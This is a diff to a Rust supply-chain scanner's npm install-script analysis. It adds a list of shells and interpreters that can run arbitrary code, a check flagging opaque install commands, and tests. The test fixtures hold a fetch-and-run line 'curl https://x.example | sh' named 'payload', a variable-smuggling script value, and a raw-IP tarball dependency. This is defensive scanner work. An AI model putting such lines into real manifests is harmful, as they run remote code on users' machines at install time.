@@ -13,7 +13,7 @@
 //! that runs. Whatever an attacker chains from `postinstall` is therefore still read as
 //! install-time code.
 
-use super::command::simple_commands;
+use super::command::{MAX_COMMAND_BYTES, simple_commands};
 use super::{LIFECYCLE, find_key};
 use crate::common::strip_bom;
 use palisade_core::{NPM_INSTALL_SCRIPTS, Package};
@@ -48,6 +48,18 @@ fn on_demand_lines(data: &[u8]) -> Vec<u32> {
     else {
         return Vec::new();
     };
+    // Lines are read only in a manifest laid out one script per line: `"scripts": {`
+    // ends its line, and the object closes on a line of its own.
+    let after_key = &data[scripts_at + b"\"scripts\"".len()..];
+    let key_line = after_key.split(|&b| b == b'\n').next().unwrap_or_default();
+    if key_line
+        .trim_ascii()
+        .strip_prefix(b":")
+        .map(<[u8]>::trim_ascii)
+        != Some(&b"{"[..])
+    {
+        return Vec::new();
+    }
     let first = 1 + memchr::memchr_iter(b'\n', &data[..scripts_at]).count() as u32;
     let mut out = Vec::new();
     // One pass over the lines after `"scripts": {` until the line that closes it. Only a
@@ -112,6 +124,9 @@ fn run_on_install(scripts: &Map<String, Value>) -> Option<BTreeSet<&str>> {
         let Some(command) = scripts.get(name).and_then(Value::as_str) else {
             continue;
         };
+        if opaque(command, scripts) {
+            return None;
+        }
         for words in simple_commands(command) {
             for word in &words {
                 walk.reach(word)?;
@@ -119,6 +134,58 @@ fn run_on_install(scripts: &Map<String, Value>) -> Option<BTreeSet<&str>> {
         }
     }
     Some(walk.run)
+}
+
+/// Programs whose arguments can run anything, scripts of this package included.
+const RUNNERS: &[&str] = &[
+    "node",
+    "nodejs",
+    "bun",
+    "deno",
+    "ts-node",
+    "tsx",
+    "npx",
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "python",
+    "python3",
+    "python2",
+    "ruby",
+    "perl",
+    "php",
+    "pwsh",
+    "powershell",
+    "cmd",
+    "exec",
+    "eval",
+    "source",
+    ".",
+];
+
+/// Whether a command that runs on install may start scripts that its words do not name:
+/// a program given code or a file (`node i.js`, `sh -c '...'`), text built at run time
+/// (`$x`, backticks), a command too long to read whole, or an npm command other than
+/// `run` (`npm version` runs `preversion` and `postversion`, `npm pack` runs `prepack`).
+/// Reachability then cannot be trusted and nothing is called on demand.
+fn opaque(command: &str, scripts: &Map<String, Value>) -> bool {
+    if command.len() > MAX_COMMAND_BYTES || command.contains(['$', '`']) {
+        return true;
+    }
+    simple_commands(command).iter().any(|words| {
+        let program = |w: &str| w.rsplit('/').next().unwrap_or(w).to_string();
+        let first = words.first().map(|w| program(w)).unwrap_or_default();
+        let runs_code = RUNNERS.contains(&first.as_str())
+            || words.iter().any(|w| w.contains([' ', '\t', '/', '\\']));
+        let package_manager = match (first.as_str(), words.get(1).map(String::as_str)) {
+            ("npm" | "pnpm" | "yarn", Some("run" | "run-script")) => false,
+            ("yarn" | "pnpm", Some(script)) => !scripts.contains_key(script),
+            ("npm" | "pnpm" | "yarn", _) => true,
+            _ => false,
+        };
+        runs_code || package_manager
+    })
 }
 
 struct Walk<'s> {
@@ -191,7 +258,7 @@ mod tests {
     "postinstall": "npm run setup",
     "presetup": "echo",
     "setup": "yarn fetch && run-s build:*",
-    "fetch": "curl https://x.example | sh",
+    "fetch": "curl -fsSL x.example -o vendor.tgz",
     "build:native": "node-gyp rebuild",
     "test": "jest"
   }
@@ -206,6 +273,29 @@ mod tests {
         assert!(lines(json).is_empty());
         assert!(lines(r#"{"name": "x", "scripts": {"test": "jest"}}"#).is_empty());
         assert!(lines("not json").is_empty());
+    }
+
+    #[test]
+    fn install_commands_that_may_run_unnamed_scripts_leave_nothing_on_demand() {
+        for postinstall in [
+            "node i.js",
+            "sh -c 'npm run payload'",
+            "npm pack",
+            "npm run \\\"$npm_package_config_x\\\"",
+            "yarn install",
+        ] {
+            let json = format!(
+                "{{\n  \"name\": \"x\",\n  \"scripts\": {{\n    \"postinstall\": \"{postinstall}\",\n    \"payload\": \"curl https://x.example | sh\"\n  }}\n}}"
+            );
+            assert!(lines(&json).is_empty(), "{postinstall}");
+        }
+    }
+
+    #[test]
+    fn only_lines_inside_the_scripts_object_count() {
+        // `scripts` on one line, and a dependency named like a script below it.
+        let json = "{\n  \"name\": \"x\",\n  \"scripts\": {\"test\": \"jest\", \"postinstall\": \"husky\"},\n  \"dependencies\": {\n    \"test\": \"https://203.0.113.5/p.tgz\"\n  }\n}";
+        assert!(lines(json).is_empty());
     }
 
     #[test]
